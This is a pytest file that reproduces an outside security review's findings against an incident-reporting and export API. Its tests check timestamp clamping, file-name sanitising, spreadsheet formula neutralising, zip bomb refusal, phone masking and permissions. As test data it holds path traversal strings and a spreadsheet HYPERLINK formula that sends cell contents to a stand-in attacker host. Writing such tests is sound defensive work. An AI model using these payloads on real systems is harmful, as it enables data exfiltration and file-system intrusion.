"""Findings of the outside review of issue 15 (F6, F7, F9-F12), each reproduced as it was
reported."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl
import pytest
from fastapi.testclient import TestClient

from geo import localtime
from geo.auth.principal import mask_phone
from tests.conftest import own_demo_client


@pytest.fixture(scope="module")
def env(admin_engine: Any, demo_template: str, role_headers: dict[str, dict[str, str]]
        ) -> Iterator[tuple[TestClient, dict[str, Any]]]:
    with own_demo_client(admin_engine, demo_template) as (client, s):
        yield client, {**s, "h": role_headers}


def test_f6_no_step_in_the_future(env: tuple[TestClient, dict[str, Any]]) -> None:
    client, s = env
    ahead = (localtime.now() + dt.timedelta(minutes=4)).isoformat()
    r = client.post("/incidents", headers=s["h"]["worker"], json={
        "category": "fire_lane_blocked", "lon": s["x"], "lat": s["y"], "reported_at": ahead})
    assert r.status_code == 201, r.text
    iid = r.json()["id"]
    assert dt.datetime.fromisoformat(r.json()["reported_at"]) <= localtime.now()
    for step in ("registered", "dispatched"):
        assert client.post(f"/incidents/{iid}/transition", headers=s["h"]["command"],
                           json={"to": step}).status_code == 200
    r = client.post(f"/incidents/{iid}/transition", headers=s["h"]["worker"],
                    json={"to": "in_progress", "at": ahead})
    assert r.status_code == 200, r.text
    times = [dt.datetime.fromisoformat(e["at"]) for e in r.json()["events"]]
    assert times == sorted(times) and times[-1] <= localtime.now()


def test_f7_region_text_never_reaches_a_file_name(env: tuple[TestClient, dict[str, Any]]) -> None:
    client, s = env
    for region in ("a/b", "../../etc", '141123"; x=1'):
        for fmt in ("gpkg", "shp", "geojson"):
            r = client.get("/export/admin", params={"region": region, "format": fmt},
                           headers=s["h"]["admin"])
            assert r.status_code < 500, (region, fmt, r.text[:200])


def test_f9_exported_text_is_never_a_formula(env: tuple[TestClient, dict[str, Any]]) -> None:
    client, s = env
    evil = '=HYPERLINK("http://evil.example/?q="&J2,"详情")'
    r = client.post("/incidents", headers=s["h"]["worker"], json={
        "category": "fire_lane_blocked", "lon": s["x"], "lat": s["y"], "description": evil})
    assert r.status_code == 201, r.text
    where = {"where": f"code = '{r.json()['code']}'"}
    xlsx = client.get("/export/incidents", params={**where, "format": "xlsx"},
                      headers=s["h"]["command"])
    assert xlsx.status_code == 200, xlsx.text[:300]
    ws = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str)
             and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    csv = client.get("/export/incidents", params={**where, "format": "csv"},
                     headers=s["h"]["command"]).text
    assert ",=HYPERLINK" not in csv and '"=HYPERLINK' not in csv


def test_f10_zip_bomb_refused_before_inflating(
    env: tuple[TestClient, dict[str, Any]], monkeypatch: pytest.MonkeyPatch,
) -> None:
    import geo.io.read as read

    client, s = env
    monkeypatch.setattr(read, "MAX_UNZIPPED_BYTES", 10_000)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("a.csv", b"0" * 100_000)
    r = client.post("/admin/import/cameras", headers=s["h"]["admin"],
                    files={"file": ("bomb.zip", buf.getvalue())})
    assert r.status_code == 422 and "uncompressed" in r.text, r.text[:300]
    assert "wangge_" not in r.text


def test_f11_short_numbers_are_masked() -> None:
    assert mask_phone("6012345") == "*****45"
    assert mask_phone("63456789") == "******89"
    assert mask_phone("+86 138-1234-5678") == "138****5678"
    assert mask_phone("138****5678") == "138****5678"


def test_f12_only_the_command_centre_claims_a_work_order_number(
    env: tuple[TestClient, dict[str, Any]],
) -> None:
    client, s = env
    r = client.post("/incidents", headers=s["h"]["worker"], json={
        "category": "fire_lane_blocked", "lon": s["x"], "lat": s["y"],
        "source_ref": "12345-20261205-0099"})
    assert r.status_code == 403 and "source_ref" in r.text, r.text
